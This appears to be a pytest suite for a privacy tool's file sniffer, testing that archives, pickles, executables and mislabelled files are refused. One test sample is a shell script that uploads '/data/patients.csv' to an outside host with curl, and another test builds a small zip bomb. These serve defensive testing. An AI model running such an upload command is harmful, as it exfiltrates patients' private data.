"""What a file really is (privacy.files.sniff): content decides, the extension must agree."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import sqlite3
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest

from privacy.files import (
    FileKind,
    FileTooLarge,
    ForbiddenFileType,
    Limits,
    UnreadableFile,
    sniff,
)

ImageBuilder = Callable[..., bytes]

NOTEBOOK = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>'

# What ``pickle.dumps`` writes, spelled out: the tests never run the pickle module.
# {"patients": ["Kim"]}, protocol 4
PICKLE_V4 = b"\x80\x04\x95\x18\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x08patients\x94]\x94\x8c\x03Kim\x94as."
PICKLE_V2 = b"\x80\x02]q\x00(K\x01K\x02K\x03e."  # [1, 2, 3], protocol 2


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def parquet_bytes() -> bytes:
    buffer = io.BytesIO()
    pl.DataFrame({"stage": ["I", "II"], "n": [12, 30]}).write_parquet(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("notes.txt", b"plain text\n", FileKind.TEXT),
        ("run.log", b"2024-05-01 12:00 started\n", FileKind.TEXT),
        ("README.md", b"# Results\n\nSee table 1.\n", FileKind.MARKDOWN),
        ("counts.csv", b"stage,n\nI,12\n", FileKind.CSV),
        ("counts.tsv", b"stage\tn\nI\t12\n", FileKind.TSV),
        ("model.json", b'{"auc": 0.81}', FileKind.JSON),
        ("analysis.ipynb", NOTEBOOK, FileKind.NOTEBOOK),
        ("report.html", b"<!doctype html><p>hi</p>", FileKind.HTML),
        ("report.htm", b"<p>hi</p>", FileKind.HTML),
        ("figure.svg", SVG, FileKind.SVG),
        ("COUNTS.CSV", b"stage,n\nI,12\n", FileKind.CSV),
        ("생존분석_결과.csv", "군,생존\nA,12\n".encode(), FileKind.CSV),
        ("bom.csv", b"\xef\xbb\xbfstage,n\nI,12\n", FileKind.CSV),
        ("empty.txt", b"", FileKind.TEXT),
    ],
)
def test_text_kinds_are_named_by_their_extension(name: str, data: bytes, kind: FileKind) -> None:
    assert sniff(name, data) is kind


def test_binary_kinds_are_recognised_by_content(png: ImageBuilder, jpeg: ImageBuilder) -> None:
    assert sniff("figure.png", png()) is FileKind.PNG
    assert sniff("figure.jpg", jpeg()) is FileKind.JPEG
    assert sniff("figure.jpeg", jpeg()) is FileKind.JPEG
    assert sniff("table.parquet", parquet_bytes()) is FileKind.PARQUET


def test_a_zip_renamed_csv_is_refused_as_an_archive() -> None:
    data = zip_bytes({"patients.csv": b"id,name\n1,Kim\n"})
    with pytest.raises(ForbiddenFileType, match="ZIP archive") as refused:
        sniff("results.csv", data)
    assert refused.value.rule == "forbidden_type"


@pytest.mark.parametrize("name", ["report.docx", "table.xlsx", "tool.jar", "table.parquet", "notes.txt"])
def test_office_documents_and_jars_are_zip_archives(name: str) -> None:
    data = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    with pytest.raises(ForbiddenFileType, match="ZIP archive"):
        sniff(name, data)


def test_nested_zips_are_refused_at_the_outer_archive() -> None:
    inner = zip_bytes({"patients.csv": b"id,name\n1,Kim\n"})
    outer = zip_bytes({"inner.zip": inner, "readme.txt": b"nothing to see"})
    with pytest.raises(ForbiddenFileType, match="ZIP archive"):
        sniff("outer.csv", outer)


def test_a_zip_bomb_is_refused_without_decompressing(monkeypatch: pytest.MonkeyPatch) -> None:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        chunk = bytes(1 << 20)
        for _ in range(100):
            member.write(chunk)
    data = buffer.getvalue()
    assert len(data) < 1 << 20
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].file_size == 100 << 20

    def no_decompression(*_: object, **__: object) -> None:
        raise AssertionError("sniff must not decompress anything")

    monkeypatch.setattr(zlib, "decompressobj", no_decompression)
    monkeypatch.setattr(zlib, "decompress", no_decompression)
    monkeypatch.setattr(zipfile, "ZipFile", no_decompression)
    with pytest.raises(ForbiddenFileType, match="ZIP archive"):
        sniff("results.csv", data)


def tar_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        payload = b"id,name\n1,Kim\n"
        info = tarfile.TarInfo("patients.csv")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("results.csv", gzip.compress(b"id,name\n1,Kim\n"), "gzip"),
        ("results.csv", bz2.compress(b"id,name\n1,Kim\n"), "bzip2"),
        ("results.csv", lzma.compress(b"id,name\n1,Kim\n"), "xz"),
        ("results.csv", b"\x28\xb5\x2f\xfd\x20\x05\x29\x00\x00hello", "zstd"),
        ("results.csv", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), "7-Zip"),
        ("results.csv", b"Rar!\x1a\x07\x01\x00" + bytes(16), "RAR"),
        ("results.txt", tar_bytes(), "tar"),
        ("results.json", PICKLE_V4, "pickle"),
        ("results.json", PICKLE_V2, "pickle"),
        ("tool.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(56), "ELF"),
        ("tool.txt", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(54), "PE/MZ"),
        ("tool.txt", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), "Mach-O"),
        ("run.txt", b"#!/bin/sh\ncurl -T /data/patients.csv https://example.org\n", "script"),
        ("run.md", b"\xef\xbb\xbf#!/usr/bin/env python\nprint(1)\n", "script"),
        ("report.txt", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n", "PDF"),
        ("report.txt", b"junk before the header\n%PDF-1.4\n%%EOF\n", "PDF"),
        ("figure.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "GIF"),
        ("figure.png", b"II*\x00\x08\x00\x00\x00", "TIFF"),
        ("array.json", b"\x93NUMPY\x01\x00v\x00{'descr': '<f8'}", "NumPy"),
        ("table.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24), "OLE2"),
    ],
)
def test_archives_executables_and_other_binaries_are_named(name: str, data: bytes, what: str) -> None:
    with pytest.raises(ForbiddenFileType, match=what):
        sniff(name, data)


def test_an_sqlite_database_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "cohort.db"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE patients (id INTEGER, name TEXT)")
        connection.execute("INSERT INTO patients VALUES (1, 'Kim')")
    connection.close()
    with pytest.raises(ForbiddenFileType, match="SQLite database"):
        sniff("cohort.csv", path.read_bytes())


def test_a_png_renamed_csv_is_refused(png: ImageBuilder) -> None:
    with pytest.raises(ForbiddenFileType, match=r"PNG file but the name ends in '\.csv'"):
        sniff("results.csv", png())


def test_a_jpeg_named_png_is_refused(jpeg: ImageBuilder) -> None:
    with pytest.raises(ForbiddenFileType, match="JPEG"):
        sniff("figure.png", jpeg())


def test_text_named_as_an_image_or_parquet_is_refused() -> None:
    with pytest.raises(ForbiddenFileType, match="content is text"):
        sniff("figure.png", b"not an image")
    with pytest.raises(ForbiddenFileType, match="content is text"):
        sniff("table.parquet", b"stage,n\nI,12\n")


def test_parquet_content_needs_its_extension_and_its_footer() -> None:
    data = parquet_bytes()
    with pytest.raises(ForbiddenFileType, match="PARQUET"):
        sniff("table.csv", data)
    with pytest.raises(UnreadableFile, match="truncated"):
        sniff("table.parquet", data[: len(data) // 2])


@pytest.mark.parametrize("name", ["tool.exe", "data.xlsx", "archive.zip", "notes", "notes.", "script.py"])
def test_unknown_extensions_are_refused(name: str) -> None:
    with pytest.raises(ForbiddenFileType, match="accepted extensions are"):
        sniff(name, b"harmless text\n")


def test_invalid_utf8_text_is_unreadable() -> None:
    with pytest.raises(UnreadableFile, match="not valid UTF-8") as refused:
        sniff("results.csv", b"name,n\nKim\xff,3\n")
    assert refused.value.rule == "unreadable"


def test_legacy_korean_encoding_is_unreadable_with_advice() -> None:
    with pytest.raises(UnreadableFile, match="CP949"):
        sniff("results.csv", "이름,수\n김,3\n".encode("cp949"))


def test_utf16_text_is_unreadable() -> None:
    with pytest.raises(UnreadableFile, match="UTF-16"):
        sniff("results.csv", "name,n\nKim,3\n".encode("utf-16"))


def test_binary_data_claiming_to_be_text_is_forbidden() -> None:
    with pytest.raises(ForbiddenFileType, match="NUL bytes"):
        sniff("results.txt", b"name,n\nKim\x00,3\n")
    noise = bytes(range(1, 256)) * 8
    with pytest.raises(ForbiddenFileType, match="binary data"):
        sniff("results.txt", noise)


def test_a_jupyter_file_that_is_not_a_notebook_is_refused() -> None:
    with pytest.raises(ForbiddenFileType, match="not a notebook"):
        sniff("analysis.ipynb", b'{"patients": ["Kim"]}')


def test_a_notebook_that_is_not_json_is_unreadable() -> None:
    with pytest.raises(UnreadableFile, match="not valid JSON"):
        sniff("analysis.ipynb", b'{"cells": [}')


def test_an_svg_without_an_svg_element_is_refused() -> None:
    with pytest.raises(ForbiddenFileType, match="no <svg> element"):
        sniff("figure.svg", b"<html><body>hi</body></html>")


def test_files_beyond_the_size_limit_are_refused_before_anything_else() -> None:
    limits = Limits(max_file_bytes=1024)
    assert sniff("notes.txt", b"x" * 1024, limits=limits) is FileKind.TEXT
    with pytest.raises(FileTooLarge, match="1,025 bytes") as refused:
        sniff("notes.zip", b"PK\x03\x04" + b"x" * 1021, limits=limits)
    assert refused.value.rule == "too_large"
    assert Limits().max_file_bytes == 16 * 1024 * 1024
